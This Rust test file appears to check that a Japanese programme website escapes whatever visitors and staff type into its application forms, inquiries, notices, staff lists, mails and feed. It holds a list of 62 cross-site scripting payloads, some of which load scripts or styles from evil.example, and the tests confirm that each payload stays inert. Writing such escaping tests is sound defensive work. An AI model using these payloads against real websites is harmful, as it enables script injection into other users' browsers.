//! Whatever anybody types stays text: on pages, in the staff's lists, in mails, in feeds.

use access::Role;
use both_engines::both_engines;
use http::StatusCode;
use scraper::{Html, Selector};

use super::House;
use super::people::Asker;
use crate::site::{Answer, Form, Person, Visitor};

/// What is typed where a name or a text is expected.
const PAYLOADS: [&str; 62] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{c}src=//evil.example>",
    "<script/xss src=//evil.example></script>",
    "<<script>alert(1)//<</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus='alert(1)' x='",
    "\" onmouseover=\"alert(1)",
    "x onerror=alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert`1`>",
    "<img/src=\"x\"onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "＜script＞alert(1)＜/script＞",
];

fn select<'a>(page: &'a Html, css: &str) -> Vec<scraper::ElementRef<'a>> {
    let selector = Selector::parse(css).unwrap_or_else(|error| panic!("{css}: {error}"));
    page.select(&selector).collect()
}

/// Everything in a page that could act, besides our own scripts.
fn what_could_act(html: &str) -> Vec<String> {
    let page = Html::parse_document(html);
    let mut found = Vec::new();
    for element in select(&page, "*") {
        let name = element.value().name();
        let attribute = |name: &str| element.attr(name).unwrap_or("");
        let is_ours = match name {
            "script" => attribute("src").starts_with("/assets/") && element.text().all(|text| text.trim().is_empty()),
            "link" => attribute("href").starts_with('/'),
            // An image whose address was taken away shows its words.
            "img" => attribute("src").is_empty() || attribute("src").starts_with('/'),
            "meta" => attribute("http-equiv").is_empty(),
            "iframe" | "object" | "embed" | "base" | "style" | "math" | "animate" | "isindex" | "marquee" | "keygen" | "video"
            | "audio" => false,
            _ => true,
        };
        if !is_ours {
            found.push(format!("<{name} {:?}>", element.value().attrs().collect::<Vec<_>>()));
        }
        for (attribute, value) in element.value().attrs() {
            let target: String = value.chars().filter(|c| !c.is_ascii_whitespace() && !c.is_control()).collect::<String>().to_lowercase();
            let acts = ["javascript:", "data:", "vbscript:"].iter().any(|scheme| target.starts_with(scheme));
            let leads = ["href", "src", "action", "formaction", "xlink:href", "srcdoc", "poster", "background"].contains(&attribute);
            if attribute.starts_with("on") || attribute == "srcdoc" || attribute == "style" || (leads && acts) {
                found.push(format!("<{name} {attribute}={value:?}>"));
            }
        }
    }
    found
}

#[track_caller]
fn is_harmless(answer: &Answer) {
    let found = what_could_act(&answer.body());
    assert!(found.is_empty(), "{} could act by {found:?}", answer.path);
}

/// The test would see it if something acted.
#[test]
fn every_payload_would_be_seen_if_it_were_not_escaped() {
    let inert = PAYLOADS.iter().filter(|payload| {
        let raw = format!("<!doctype html><html><body><p>{payload}</p></body></html>");
        let inside = format!("<!doctype html><html><body><input value=\"{payload}\"><input value='{payload}'></body></html>");
        what_could_act(&raw).is_empty() && what_could_act(&inside).is_empty()
    });
    let inert: Vec<_> = inert.collect();
    assert!(inert.len() <= 11, "these are only dangerous to Markdown, or not at all: {inert:?}");
}

/// Types the payload into every line of the form.
fn typed(form: Form, fields: &[&str], payload: &str) -> Form {
    fields.iter().fold(form, |form, field| form.fill(field, payload))
}

#[both_engines]
async fn an_application_is_text_wherever_it_is_shown(house: House) {
    let staff = house.staff(Role::Secretariat).await;
    let session = house.things().await.session;
    let mut taken = 0;
    for (n, payload) in PAYLOADS.iter().enumerate() {
        let mut visitor = Visitor::new(house.service.clone(), Person::number(n));
        let form = visitor.fills_in("R8/executive/3").await;
        let refused =
            typed(form.clone(), &["family", "given", "family_kana", "given_kana", "email", "place"], payload).with("question", payload);
        let page = visitor.submit(&refused).await;
        page.is(StatusCode::UNPROCESSABLE_ENTITY);
        is_harmless(&page);
        // What is taken as a name depends on the name; the workplace and the question are free.
        let named = visitor.submit(&form.clone().fill("family", payload).fill("place", payload).with("question", payload)).await;
        is_harmless(&named);
        let confirmed = if let Some(form) = named.find_form("/confirmation") {
            form
        } else {
            let page = visitor.submit(&form.fill("place", payload).with("question", payload)).await;
            is_harmless(&page);
            let Some(form) = page.find_form("/confirmation") else { continue };
            form
        };
        let done = visitor.submit(&confirmed).await;
        if done.status != StatusCode::SEE_OTHER {
            is_harmless(&done);
            continue;
        }
        taken += 1;
        let path = done.location().split('?').next().unwrap_or_default().to_owned();
        is_harmless(&visitor.get(done.location()).await);
        if taken % 8 == 1 {
            for page in [format!("{path}/move"), format!("{path}/cancellation"), format!("/en{path}")] {
                is_harmless(&visitor.get(&page).await);
            }
        }
        let id = path.rsplit('/').next().unwrap_or_default().to_owned();
        is_harmless(staff.gets(&house, &format!("/staff/applicants/{id}")).await.is(StatusCode::OK));
        is_harmless(&staff.gets(&house, &format!("/staff/sessions/{session}/selection?do=cancel&id={id}")).await);
    }
    assert!(taken >= 50, "{taken} were taken");
    for rest in ["applicants", "roll", "applicants?q=%3Cscript%3Ealert(1)%3C/script%3E", "export"] {
        let page = staff.gets(&house, &format!("/staff/sessions/{session}/{rest}")).await;
        is_harmless(page.is(StatusCode::OK));
        assert!(rest == "export" || page.body().contains("&lt;") || page.body().contains("&#60;"), "{rest} shows what was typed");
    }
    letters_are_harmless(&house, taken).await;
}

async fn letters_are_harmless(house: &House, at_least: usize) {
    let mut html = 0;
    for letter in house.deliver().await {
        if let Some(text) = &letter.html {
            html += 1;
            let page = Html::parse_document(text);
            for element in select(&page, "*") {
                let name = element.value().name();
                assert!(
                    !["script", "iframe", "object", "embed", "svg", "form", "img", "base"].contains(&name),
                    "{name} in {}",
                    letter.subject
                );
                for (attribute, value) in element.value().attrs() {
                    let leads_off = attribute == "href" && !(value.starts_with("https://mist.example.jp") || value.starts_with("mailto:"));
                    assert!(!attribute.starts_with("on") && !leads_off, "{attribute}={value} in {}", letter.subject);
                }
            }
        }
        assert!(letter.headers.iter().all(|(name, _)| !name.eq_ignore_ascii_case("bcc") && !name.eq_ignore_ascii_case("x-evil")));
    }
    assert!(html >= at_least, "{html} letters have a formatted text");
}

#[both_engines]
async fn an_inquiry_is_text_wherever_it_is_shown(house: House) {
    let staff = house.staff(Role::Secretariat).await;
    let mut visitor = house.visitor("見本 太郎");
    let mut taken = 0;
    for payload in PAYLOADS {
        let form = visitor.get("/contact").await.form("/contact").choose("about", "programme").choose("consent", "yes");
        let refused = typed(form.clone(), &["name", "email", "institution", "body"], payload);
        is_harmless(visitor.submit(&refused).await.is(StatusCode::UNPROCESSABLE_ENTITY));
        let cut: String = payload.chars().take(50).collect();
        let form = typed(form, &["name", "institution"], &cut).fill("body", payload).fill("email", "taro@example.jp");
        let sent = visitor.submit(&form).await;
        sent.is(StatusCode::SEE_OTHER);
        taken += 1;
        is_harmless(visitor.get(sent.location()).await.is(StatusCode::OK));
    }
    let list = staff.gets(&house, "/staff/inquiries").await;
    is_harmless(list.is(StatusCode::OK));
    let links = list.attributes("main a", "href");
    let mut shown = 0;
    for path in links.iter().filter(|link| link.strip_prefix("/staff/inquiries/").is_some_and(|id| id.len() == 36)) {
        is_harmless(staff.gets(&house, path).await.is(StatusCode::OK));
        let preview = staff.asks(&house, &http::Method::POST, &format!("{path}/answers"), "answer=%3Cscript%3Ealert(1)%3C/script%3E").await;
        is_harmless(preview.is(StatusCode::OK));
        shown += 1;
    }
    assert!(shown >= 20, "{shown} of {taken} inquiries are on the first page of the list");
    letters_are_harmless(&house, 1).await;
}

/// A form of the staff, sent with these fields.
async fn sends(house: &House, who: &Asker, form: &Form) -> Answer {
    house.ask(http::Method::POST, &form.action, &who.headers(), &form.encoded()).await
}

#[both_engines]
async fn a_notice_is_text_wherever_it_is_shown(house: House) {
    let (staff, ministry) = (house.staff(Role::Secretariat).await, house.staff(Role::Ministry).await);
    let empty = staff.gets(&house, "/staff/notices/new").await.form("/staff/notices").choose_saying("category", "");
    for payload in PAYLOADS {
        let filled = typed(empty.clone(), &["title_ja", "title_en"], payload)
            .with("body_ja", payload)
            .with("body_en", payload)
            .with("do", "preview");
        let page = sends(&house, &staff, &filled).await;
        is_harmless(page.is(StatusCode::OK));
    }
    let everything = PAYLOADS.map(|payload| format!("{payload}\n")).join("\n");
    let wording =
        empty.fill("title_ja", PAYLOADS[0]).fill("title_en", PAYLOADS[12]).with("body_ja", &everything).with("body_en", &everything);
    let saved = sends(&house, &staff, &wording).await;
    let path = saved.is(StatusCode::SEE_OTHER).location().split('?').next().unwrap_or_default().to_owned();
    is_harmless(staff.gets(&house, &path).await.is(StatusCode::OK));
    is_harmless(staff.gets(&house, &format!("{path}/edit")).await.is(StatusCode::OK));
    let request = staff.gets(&house, &path).await.form("/requests");
    sends(&house, &staff, &request).await.is(StatusCode::SEE_OTHER);
    let approval = ministry.gets(&house, &path).await.form("/approvals");
    sends(&house, &ministry, &approval).await.is(StatusCode::SEE_OTHER);
    let publishing = staff.gets(&house, &format!("{path}/publications")).await;
    is_harmless(publishing.is(StatusCode::OK));
    sends(&house, &staff, &publishing.form("/publications")).await.is(StatusCode::SEE_OTHER);

    let list = Asker::visitor().gets(&house, "/notices").await;
    is_harmless(&list);
    assert!(list.body().contains("&lt;script") || list.body().contains("&#60;script"), "the title is in the list, as text");
    let public = staff.gets(&house, &path).await.attributes("main a", "href");
    let public = public.iter().find(|link| link.starts_with("/notices/")).expect("it is public");
    for page in [public.clone(), format!("/en{public}"), "/".into(), "/en".into(), "/search?q=script".into(), "/staff/notices".into()] {
        is_harmless(staff.gets(&house, &page).await.is(StatusCode::OK));
    }
    let feed = Asker::visitor().gets(&house, "/feed.xml").await.body();
    assert!(!feed.to_lowercase().contains("<script") && !feed.to_lowercase().contains("onerror=alert(1)&gt;"), "{feed}");
}
